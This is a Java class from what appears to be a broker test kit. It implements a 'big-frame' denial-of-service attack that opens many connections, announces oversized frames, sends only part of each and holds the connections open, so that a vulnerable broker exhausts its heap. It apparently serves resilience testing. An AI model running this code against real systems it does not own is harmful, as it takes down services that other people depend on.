package io.tributary.testkit.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import io.tributary.testkit.wire.RawConnection;

/**
 * The big-frame attack: each of {@code connections} connections announces a frame of {@code announcedBytes} and
 * sends {@code sentBytes} of it, then waits. A broker that allocates what a size prefix announces runs out of heap
 * (200 x 100 MB is 20 GB) with a few KiB of traffic.
 */
public final class BigFrames implements Attack {
    private final int connections;
    private final int announcedBytes;
    private final int sentBytes;
    private final Outcomes outcomes = new Outcomes();
    private final List<RawConnection> open = new ArrayList<>();

    public BigFrames(int connections, int announcedBytes, int sentBytes) {
        this.connections = connections;
        this.announcedBytes = announcedBytes;
        this.sentBytes = sentBytes;
    }

    @Override
    public String description() {
        return String.format("%,d connections announcing %,d MB frames", connections, announcedBytes / 1_000_000);
    }

    @Override
    public void start(String host, int port) {
        byte[] partOfFrame = new byte[sentBytes];
        Arrays.fill(partOfFrame, (byte) 'A');
        for (int i = 0; i < connections; i++) {
            try {
                RawConnection connection = new RawConnection(host, port);
                open.add(connection);
                connection.write(ByteBuffer.allocate(4).putInt(announcedBytes).array());
                connection.write(partOfFrame);
                outcomes.add("frame announced");
            } catch (IOException e) {
                outcomes.add("connect or write failed");
            }
        }
    }

    @Override
    public Map<String, Integer> outcomes() {
        return outcomes.snapshot();
    }

    @Override
    public void close() {
        RawConnection.closeAll(open);
        open.clear();
    }
}
